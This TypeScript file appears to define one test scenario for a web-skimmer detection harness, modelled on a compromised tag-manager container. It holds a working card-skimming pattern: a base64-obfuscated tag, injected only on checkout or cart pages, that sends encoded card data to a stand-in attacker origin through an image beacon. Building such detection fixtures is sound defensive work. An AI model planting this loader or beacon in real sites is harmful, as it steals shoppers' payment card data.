import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'tag-manager-container',
  why: 'A container of a tag manager, from a host that many shops trust, holds one tag more: custom HTML with the skimmer in it (published 2020-25).',
  covers: ['injection: tag manager', 'trigger: address', 'obfuscation: eval'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/gtm.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.external(
      'cdn/tm.js',
      js`(function (container) {
  container.tags.forEach(function (tag) {
    if (!new RegExp(tag.when).test(location.href)) return;
    var s = document.createElement('script');
    s.text = atob(tag.html);
    document.head.append(s);
  });
})({ id: 'TM-4K2', tags: [{ when: '.', html: '${Buffer.from("window.dataLayer=window.dataLayer||[];dataLayer.push({event:'tm.js'});").toString('base64')}' }, { when: 'checkout|onepage|cart', html: '${Buffer.from(code).toString('base64')}' }] });`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
